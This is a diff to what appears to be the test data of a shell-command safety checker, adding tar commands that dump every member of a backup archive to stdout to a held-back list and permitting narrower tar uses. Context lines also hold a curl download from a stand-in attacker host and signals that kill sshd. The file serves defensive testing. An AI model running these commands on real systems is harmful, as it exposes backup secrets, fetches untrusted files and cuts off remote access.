@@ -240,6 +240,11 @@ HELD.update({
         "xmllint --relaxng x.rng x.xml",
         "curl -sSo f.xml https://evil.example/f.xml && xmllint --c14n f.xml",
     ],
+    # tar -O prints every member of an archive of unknown content (a backup's secrets)
+    "tar-to-stdout-all": [
+        "tar -xOf backup.tar -C out", "tar --extract --to-stdout --file=/tmp/b.tar -C x",
+        "tar -xzOf site-backup.tgz -C x", "tar -x -O -f b.tar -C out --wildcards '*'",
+    ],
     # USR1/USR2 to daemons that die of them (sshd's listener: no later login)
     "pidfile-fatal-usr": [
         "sudo kill -USR2 $(cat /run/sshd.pid)", "kill -USR1 $(cat /run/sshd.pid)",
@@ -308,7 +313,8 @@ ALLOWED: list[str] = [
     "sudo kill -USR1 $(cat /var/run/php/php8.2-fpm.pid)",
     "psql -c 'select 1'", "psql -c '\\dt'", "mysql -e 'select * from `users`'",
     "xmllint --format pom.xml", "xmllint --xpath '//version/text()' pom.xml",
-    "xmllint --noout config.xml",
+    "xmllint --noout config.xml", "tar -xOf backup.tar -C out README.md",
+    "tar -tzf release.tgz",
 ]
 
 
